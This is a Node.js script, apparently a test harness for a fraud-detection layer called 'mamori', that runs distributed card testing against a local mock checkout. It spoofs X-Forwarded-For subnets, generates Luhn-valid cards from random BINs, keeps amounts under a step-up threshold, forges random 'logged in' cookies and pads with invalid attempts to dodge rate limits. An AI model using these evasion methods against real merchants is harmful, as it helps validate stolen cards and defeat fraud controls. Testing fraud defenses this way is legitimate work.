// Distributed card testing: N attempts, each from its own /24 (or IPv6 /64 with --v6), each card of its
// own random BIN, amount 4980 (no small-amount step-up). With --cookie NAME each attempt also carries
// a random value of that cookie (the checkout's customer_cookie: mamori takes any value as "logged in").
// Usage: node distributed.mjs PORT SHOP_PORT N [--cookie NAME] [--v6]
import http from 'node:http';
const [port, shop, n] = process.argv.slice(2, 5).map(Number);
const ci = process.argv.indexOf('--cookie'); const cookie = ci > 0 ? process.argv[ci + 1] : undefined;
const v6 = process.argv.includes('--v6');
const pi = process.argv.indexOf('--pad'); const pad = pi > 0 ? Number(process.argv[pi + 1]) : 0; // Luhn-invalid attempts per real one: mamori rejects them (free), yet they count as site attempts
let padN = 0;
function luhn(p15) { let s = 0; for (let i = 0; i < 15; i++) { let d = +p15[14 - i]; if (i % 2 === 0) { d *= 2; if (d > 9) d -= 9; } s += d; } return p15 + ((10 - (s % 10)) % 10); }
const req = (p, path, method, headers, body) => new Promise((res) => { const r = http.request({ host: '127.0.0.1', port: p, path, method, headers }, (x) => { let b = ''; x.on('data', (c) => (b += c)); x.on('end', () => res([x.statusCode, b])); }); r.on('error', (e) => res(['ERR', e.message])); r.end(body); });
const stats = async () => JSON.parse((await req(shop, '/api/gateway/stats', 'GET', {}))[1]).authorizations;
const before = await stats();
const answers = {};
const base = Math.floor(Math.random() * 200);
for (let i = 0; i < n; i++) {
  const ip = v6 ? `2001:db8:${(base * 1000 + i).toString(16)}:${i.toString(16)}::1` : `10.${base}.${i % 250}.${1 + Math.floor(i / 250)}`.replace(/^10\.(\d+)\.(\d+)\.(\d+)$/, (_, a, b, c) => `10.${(+a + Math.floor(i / 250)) % 250}.${b}.${c}`);
  const number = luhn(`4${String(Math.floor(Math.random() * 1e14)).padStart(14, '0')}`);
  const headers = { 'content-type': 'application/json', 'x-forwarded-for': ip };
  if (cookie) headers.cookie = `${cookie}=${Math.random().toString(36).slice(2)}`;
  const [s, b] = await req(port, '/api/checkout', 'POST', headers, JSON.stringify({ card: { number, exp_month: 12, exp_year: 2031, cvc: '123' }, amount: 4980 }));
  for (let j = 0; j < pad; j++, padN++) {
    const bad = luhn(`4${String(Math.floor(Math.random() * 1e14)).padStart(14, '0')}`).replace(/.$/, (d) => String((+d + 1) % 10));
    await req(port, '/api/checkout', 'POST', { 'content-type': 'application/json', 'x-forwarded-for': `172.${16 + (padN >> 16) % 16}.${(padN >> 8) & 255}.${padN & 255}` }, JSON.stringify({ card: { number: bad, exp_month: 12, exp_year: 2031, cvc: '123' }, amount: 4980 }));
  }
  const k = `${s}${/paused/.test(b) ? ' paused' : ''}`;
  answers[k] = (answers[k] ?? 0) + 1;
}
console.log(`${n} attempts${pad ? ` (+${pad} Luhn-invalid pads each)` : ''}${cookie ? ` with random ${cookie} cookies` : ''}${v6 ? ' (IPv6)' : ''}: shop authorizations +${(await stats()) - before} (answers ${JSON.stringify(answers)})`);
